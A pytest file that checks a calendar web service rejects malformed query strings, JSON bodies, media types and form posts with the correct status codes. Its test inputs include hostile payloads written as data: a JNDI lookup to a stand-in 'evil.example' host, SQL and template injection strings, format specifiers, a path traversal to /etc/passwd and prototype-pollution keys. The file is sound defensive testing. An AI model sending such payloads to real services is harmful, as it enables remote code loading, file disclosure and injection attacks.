"""Malformed queries, forms and JSON bodies are refused and not repeated."""

import json

import pytest

from calsvc.web.request_body import MAX_BODY_BYTES, MAX_FIELDS
from calsvc.web.server.http_connection import MAX_URL_BYTES
from tests.support.hostile_client import (
    BORN,
    EVIL,
    FORM,
    GOOD,
    MARK,
    Server,
    assert_harmless,
    assert_rejected,
    household,
)

BODY = json.dumps({"cards": [{"born": MARK}]}).encode()


@pytest.mark.parametrize(
    "query",
    [
        f"{GOOD}&born={MARK}",
        "&".join([f"born={MARK}"] * 15),
        "&".join([f"born={MARK}"] * 1000),
        "&".join(f"{MARK}{number}=1" for number in range(19)),
        "&".join(f"{MARK}{number}=1" for number in range(2000)),
        "&" * 5000,
        "=" * 5000,
        f"born={MARK * 5000}",
        f"{MARK * 5000}=1",
        f"born={'9' * 20000}",
        f"born={'%EF%B7%BA' * 2000}",
        f"born={'1' * 41}",
        f"born[]={MARK}",
        f"born[$ne]={MARK}",
        f"born={MARK}'%20OR%20'1'='1",
        "born=${jndi:ldap://evil.example/a}",
        "born={{7*7}}&issued={{7*7}}",
        "born=%s%n%x&issued=../../etc/passwd",
        f"born=0000-00-00&issued={MARK}",
        "born=9999-12-31&issued=9999-12-31",
        "born=-1&card_expires=-1",
        f"{GOOD};lang={MARK}",
        f"{GOOD}&__proto__[x]={MARK}",
    ],
)
@pytest.mark.parametrize("path", ["/calendar.ics", "/api/milestones"])
def test_oversized_repeated_and_foreign_parameters_are_refused(
    server: Server, path: str, query: str
) -> None:
    target = f"{path}?{query}".encode()
    answer = server.get(target)
    assert_harmless(answer)
    assert answer.status == (414 if len(target) > MAX_URL_BYTES else 400)
    assert len(answer.raw) < 8000


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"", 400),
        (b"null", 400),
        (b"[]", 400),
        (b'"zqmark"', 400),
        (b"NaN", 400),
        (b"{", 400),
        (b"[" * 60000, 400),
        (b'{"cards":' * 6000, 400),
        (b'{"cards":[{"born":' + b"9" * 60000 + b"}]}", 400),
        (b'{"cards":[{"born":1e999,"issued":-0.0}]}', 400),
        (b'{"cards":[{"born":["zqmark"],"issued":{"zqmark":1}}]}', 400),
        (b'{"cards":[null,1,"zqmark",[],{}]}', 400),
        (b'{"cards":{"zqmark":1}}', 400),
        (b'{"cards":[' + b"{}," * 10 + b"{}]}", 400),
        (b'{"cards":[{"born":"\\ud800","issued":"\\udfff"}]}', 400),
        (b'{"cards":[{"\\ud800zqmark":"1"}]}', 400),
        (b'{"cards":[{"born":"1985-04-23","issued":"2020-06-01\\u0000zqmark"}]}', 400),
        (household(lang="zqmark"), 400),
        (household(lang=["ja"]), 400),
        (household(lang={}), 400),
        (household(alarms="zqmark"), 400),
        (household(alarms=1), 400),
        (household(__proto__={"zqmark": 1}), 400),
        (household(**{f"zqmark{number}": 1 for number in range(3000)}), 400),
        (json.dumps({"cards": [{**BORN, "name": MARK * 10}]}).encode(), 400),
        (json.dumps({"cards": [{**BORN, "name": 1}]}).encode(), 400),
        (b"\xff\xfe" + household().decode().encode("utf-16-le")[:-1], 400),
        (b"\xef\xbb\xbf\xff" + household(), 400),
        (b'{"cards":"\xff\xfe\xc0\x80zqmark"}', 400),
        (b" " * (MAX_BODY_BYTES + 1), 413),
        (b" " * (MAX_BODY_BYTES * 20), 413),
    ],
)
def test_a_malformed_body_is_refused(server: Server, body: bytes, status: int) -> None:
    answer = server.post("/api/links", body, "application/json")
    assert_rejected(answer, status)
    assert len(answer.content) < 8000


@pytest.mark.parametrize(
    "media_type",
    [
        "",
        "text/plain",
        "application/xml",
        "application/jsonx",
        "zqmark",
        "multipart/form-data",
        "*",
    ],
)
@pytest.mark.parametrize("path", ["/", "/api/links"])
def test_another_media_type_is_refused(server: Server, path: str, media_type: str) -> None:
    assert_rejected(server.post(path, BODY, media_type), 415)


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"", 400),
        (b"c1-born-year=zqmark", 400),
        (b"c1-name=zqmark" + b"&c1-name=zqmark" * 300, 400),
        (b"cards=99999999999999999999&c1-name=x", 400),
        (b"cards=%D9%A3", 400),
        (b"do=remove-0&cards=1", 400),
        (b"do=remove-1&cards=zqmark", 200),
        (b"c1-born-year=%ff%fe&c1-born-month=\xc0\x80", 400),
        (b"c1-born-era=zqmark", 400),
        (b"c1-born-year=" + b"9" * 60000, 400),
        (b"&".join(b"f%d=1" % number for number in range(MAX_FIELDS)), 400),
        (b"&".join(b"f%d=1" % number for number in range(MAX_FIELDS + 1)), 413),
        (b"a" * (MAX_BODY_BYTES + 1), 413),
    ],
)
def test_a_malformed_form_is_shown_again_or_refused(
    server: Server, body: bytes, status: int
) -> None:
    answer = server.post("/", body, FORM)
    assert answer.status_code == status
    assert MARK not in str(answer.headers).lower()
    assert EVIL not in answer.text
